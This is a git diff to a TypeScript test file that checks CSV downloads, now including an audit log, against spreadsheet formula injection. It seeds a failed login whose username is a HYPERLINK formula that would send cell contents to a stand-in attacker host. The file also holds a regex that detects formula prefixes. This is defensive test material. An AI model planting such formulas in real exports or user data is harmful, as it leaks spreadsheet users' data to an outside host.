@@ -2,6 +2,7 @@ import { parse } from 'csv-parse/sync';
 import { sql } from 'drizzle-orm';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { CSV_DELIMITERS, type CsvFormat, csvDownloadUrl } from '../common/csv-download';
+import { recordAudit } from './features/audit/audit';
 import { allocate, makeCampaign, makeMailing } from './features/mailings/mailing.test-helpers';
 import { setupTestApp } from './test/app';
 import { csvBody } from './test/csv';
@@ -16,8 +17,8 @@ const t = setupTestApp({ startWorker: true });
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
 /** A cell Excel or LibreOffice would take for a formula (OWASP's CSV injection). */
 const FORMULA = /^[=+\-@\t\r]/;
-/** The columns whose plain numbers stay numbers: the export columns of type number, and regel. */
-const NUMBER_COLUMNS = new Set(['bedrag', 'getal', 'regel']);
+/** The columns whose plain numbers stay numbers: the export columns of type number, regel and Rijen. */
+const NUMBER_COLUMNS = new Set(['bedrag', 'getal', 'regel', 'Rijen']);
 
 /** A CSV download route's URL pattern and the URL of its download made here. */
 let downloads: Record<string, string>;
@@ -76,7 +77,10 @@ beforeAll(async () => {
   });
   expect(final.statusCode, final.body).toBe(200);
   const mailing = `/api/campaigns/${campaign}/mailings/${m._id}`;
+  // A failed login records the name as typed: a hostile one reaches the audit log's download.
+  await recordAudit(t.db, { kind: 'login-failed', username: HYPERLINK, ip: '127.0.0.1', rows: 3 });
   downloads = {
+    '/api/audit-log.csv': '/api/audit-log.csv',
     '/api/datasets/:partnerId/:datasetId/csv': `/api/datasets/${s.partnerId}/${s.datasetId}/csv`,
     '/api/tasks/:id/skipped': `/api/tasks/${task._id}/skipped`,
     '/api/campaigns/:campaignId/mailings/:mailingId/csv': `${mailing}/csv`,
